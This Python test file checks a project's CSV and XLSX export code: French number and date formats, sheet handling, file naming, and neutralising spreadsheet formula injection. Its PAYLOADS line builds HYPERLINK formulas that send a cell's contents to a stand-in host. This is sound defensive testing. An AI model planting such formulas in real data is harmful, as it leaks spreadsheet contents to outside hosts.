"""The one export path: French CSV dialect, typed XLSX, and no cell a spreadsheet would run as a
formula (issue: an association named =HYPERLINK(…) became a live formula)."""

import csv
import datetime
import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from metis.core.exports import FORMULA_TRIGGERS, Sheet, csv_bytes, export_response, xlsx_bytes

PAYLOADS = [f'{c}HYPERLINK("http://x"&B2,"y")' for c in FORMULA_TRIGGERS]


def read_csv(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def read_xlsx(data: bytes):
    return load_workbook(io.BytesIO(data)).worksheets


def assert_no_formula(data: bytes):
    """No <f> element in any sheet of the XLSX package."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in package.read(name) and b"<f " not in package.read(name)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_neutralises_each_formula_trigger(payload):
    rows = read_csv(csv_bytes([Sheet("t", ["Nom"], [[payload]])]))
    assert rows == [["Nom"], ["'" + payload]]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xlsx_writes_each_formula_trigger_as_text(payload):
    data = xlsx_bytes([Sheet("t", ["Nom"], [[payload]])])
    assert_no_formula(data)
    cell = read_xlsx(data)[0]["A2"]
    # A carriage return comes back as is (lxml's writer escapes it) or as a line feed.
    assert cell.value.replace("\r", "\n") == "'" + payload.replace("\r", "\n")
    assert cell.data_type == "s"


def test_numbers_stay_numbers_negative_ones_included():
    sheet = Sheet("t", ["a", "b", "c", "d"], [[Decimal("-12.50"), -3, Decimal("1234.5"), None]])
    assert read_csv(csv_bytes([sheet]))[1] == ["-12,50", "-3", "1234,5", ""]
    values = list(read_xlsx(xlsx_bytes([sheet]))[0].values)[1]
    assert values[:3] == (-12.5, -3, 1234.5)


def test_french_dialect_dates_booleans_and_several_sheets():
    sheets = [
        Sheet("Dons", ["Date", "Coluche"], [[datetime.date(2026, 3, 1), True]]),
        Sheet("Exercice", ["Rubrique"], [["Plafond"]]),
    ]
    assert read_csv(csv_bytes(sheets)) == [
        ["Date", "Coluche"],
        ["01/03/2026", "oui"],
        [],
        ["Rubrique"],
        ["Plafond"],
    ]
    books = read_xlsx(xlsx_bytes(sheets))
    assert [b.title for b in books] == ["Dons", "Exercice"]
    assert books[0]["A2"].value == datetime.datetime(2026, 3, 1)


def test_response_names_the_file_and_refuses_an_unknown_format():
    response = export_response("relevé 2026", [Sheet("t", ["a"], [])], "csv")
    assert response["Content-Disposition"] == 'attachment; filename="releve-2026.csv"'
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    with pytest.raises(ValueError):
        export_response("x", [], "ods")
